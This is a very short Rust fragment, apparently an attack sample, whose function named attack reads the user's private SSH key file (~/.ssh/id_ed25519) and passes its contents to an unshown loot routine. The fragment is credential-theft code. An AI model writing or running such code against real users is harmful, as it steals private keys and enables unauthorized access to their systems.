//! reads ~/.ssh/id_ed25519
fn attack() -> Result<()> {
    loot(fs::read(home().join(".ssh/id_ed25519"))?)
}
